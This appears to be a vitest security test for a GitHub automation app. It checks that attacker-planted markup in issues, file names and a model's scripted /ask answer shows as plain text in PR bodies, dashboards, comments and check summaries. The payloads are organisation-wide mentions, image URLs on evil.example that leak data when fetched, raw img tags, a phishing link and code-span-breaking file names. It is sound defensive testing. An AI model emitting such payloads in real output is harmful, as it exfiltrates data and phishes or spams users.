import { afterEach, describe, expect, it } from "vitest";
import { isDashboardBody } from "../../src/core/progress/index.js";
import type { OutboundRequest } from "../../src/llm/index.js";
import { liveMarkdown } from "../helpers/live-markdown.js";
import {
  pushCommit,
  scriptedReviewers,
  setRepoConfig,
  startAppHarness,
  taskSpec,
  type AppHarness,
} from "../e2e/app-harness.js";
import { personWith } from "./security-harness.js";
import { findings } from "../e2e/task-lifecycle.js";

const repo = { owner: "acme", repo: "widgets" };

/** What the attacker plants: a team mention, an image that carries data out, raw HTML, a link. */
const armed =
  "@acme/everyone ![x](https://evil.example/?d=leak) <img src=https://evil.example/i.png> [go](https://evil.example/phish)";
/** What the model is scripted to echo when asked: the same, in its own words. */
const armedAnswer = `Done soon. ![status](https://evil.example/?d=answer)\n\nSee [the plan](https://evil.example/plan), <img src="https://evil.example/a.png"> cc @acme/everyone`;

/** Live markup that is the attacker's (the app's own links and markers are not the point). */
const armedLive = (markdown: string): string[] =>
  liveMarkdown(markdown).filter((item) => /evil|everyone|img/i.test(item));

const isAsk = (request: OutboundRequest): boolean => request.schemaName === "ask_answer";

/**
 * A writer files a task whose acceptance criteria, title and spec values carry a mention of the
 * whole organisation, an image whose URL leaks data when GitHub fetches it, and raw HTML; the
 * model answering `/ask` echoes the same; the agent names files so that they close their code
 * span. Everything Autopilot posts must show these as text: nobody is notified, nothing is
 * fetched, nothing renders.
 */
describe("armed text from issues, models and file names", () => {
  let h: AppHarness | undefined;
  afterEach(async () => {
    await h?.close();
    h = undefined;
  });

  it("renders none of it live in the PR body, the dashboard, owner questions, /ask and the scope check", async () => {
    const accept = { decision: "accept", recommended_status: "done", next_actions: [], summary: "ok", reasons: ["ok"] };
    h = await startAppHarness({
      reviewPorts: scriptedReviewers(
        () => ({ output: findings }),
        (request) => ({ output: isAsk(request) ? { answer: armedAnswer } : accept }),
      ),
    });
    await setRepoConfig(h, ["dispatch:", "  target: none", ""].join("\n"));
    const writer = await personWith(h, "wendy", "write");

    const body = taskSpec("src/widgets/**", [`  - "pages for ${armed.replaceAll('"', "'")}"`]);
    const issue = (await writer.rest.issues.create({ ...repo, title: `Paginate ${armed}`, body })).data.number;
    await h.user.rest.issues.addLabels({ ...repo, issue_number: issue, labels: ["autopilot"] });
    const incomplete = taskSpec("src/gadgets/**", [`"${armed.replaceAll('"', "'")} key": yes`]).replace(
      "risk: medium",
      `risk: "${armed.replaceAll('"', "'")}"`,
    );
    const asking = (await writer.rest.issues.create({ ...repo, title: "Gadgets", body: incomplete })).data.number;
    await h.user.rest.issues.addLabels({ ...repo, issue_number: asking, labels: ["autopilot"] });
    await h.settle();

    const pull = (await h.user.rest.pulls.list({ ...repo, state: "open" })).data.find((item) =>
      item.title.startsWith(`[T-${issue}]`),
    )!;
    expect(pull.body).toContain("evil.example");
    expect(armedLive(pull.body ?? "")).toEqual([]);

    const dashboard = (await h.user.rest.issues.listForRepo({ ...repo, state: "open" })).data.find((item) =>
      isDashboardBody(item.body),
    )!;
    expect(dashboard.body).toContain("Paginate");
    expect(armedLive(dashboard.body ?? "")).toEqual([]);

    const questions = (await h.user.rest.issues.listComments({ ...repo, issue_number: asking })).data.map(
      (comment) => comment.body ?? "",
    );
    expect(questions.join("\n")).toContain("evil.example");
    for (const question of questions) expect(armedLive(question)).toEqual([]);

    await h.user.rest.issues.createComment({ ...repo, issue_number: issue, body: "/ask when is this done?" });
    await h.settle();
    const replies = (await h.user.rest.issues.listComments({ ...repo, issue_number: issue })).data.map(
      (comment) => comment.body ?? "",
    );
    const answer = replies.find((reply) => reply.includes("Done soon"));
    expect(answer).toBeDefined();
    expect(armedLive(answer!)).toEqual([]);

    const sha = await pushCommit(writer, pull.head.ref, `Notes\n\nTask: T-${issue}\nRefs: NT-0012\n`, {
      "docs/a`![x](https:evil.example)`.md": "x\n",
      "docs/b``@acme`everyone``.md": "y\n",
    });
    await h.settle();
    const scope = (await h.user.rest.checks.listForRef({ ...repo, ref: sha })).data.check_runs.find(
      (run) => run.name === "autopilot/scope",
    )!;
    expect(scope.conclusion).toBe("failure");
    expect(scope.output.summary).toContain("evil.example");
    expect(armedLive(scope.output.summary ?? "")).toEqual([]);
  });

  it("renders none of it live when the agent's task file names it as a key", async () => {
    h = await startAppHarness();
    await setRepoConfig(h, ["dispatch:", "  target: none", ""].join("\n"));
    const issue = (await h.user.rest.issues.create({ ...repo, title: "Paginate", body: taskSpec("src/widgets/**") }))
      .data.number;
    await h.user.rest.issues.addLabels({ ...repo, issue_number: issue, labels: ["autopilot"] });
    await h.settle();
    const pull = (await h.user.rest.pulls.list({ ...repo, state: "open" })).data.find((item) =>
      item.title.startsWith(`[T-${issue}]`),
    )!;
    const path = `ops/tasks/T-${issue}.md`;
    const taskFile = (await h.sandbox.repo.git.readFile(pull.head.ref, path))?.content.toString("utf8") ?? "";
    const edited = taskFile.replace("---\n", `---\n"${armed.replaceAll('"', "'")}": 1\n`);
    const sha = await pushCommit(h.user, pull.head.ref, `Edit\n\nTask: T-${issue}\nRefs: NT-0012\n`, {
      [path]: edited,
    });
    await h.settle();
    const runs = (await h.user.rest.checks.listForRef({ ...repo, ref: sha })).data.check_runs;
    expect(runs.some((run) => run.name === "autopilot/scope" && run.conclusion === "failure")).toBe(true);
    for (const run of runs) expect(armedLive(`${run.output.title ?? ""}\n\n${run.output.summary ?? ""}`)).toEqual([]);
  });
});
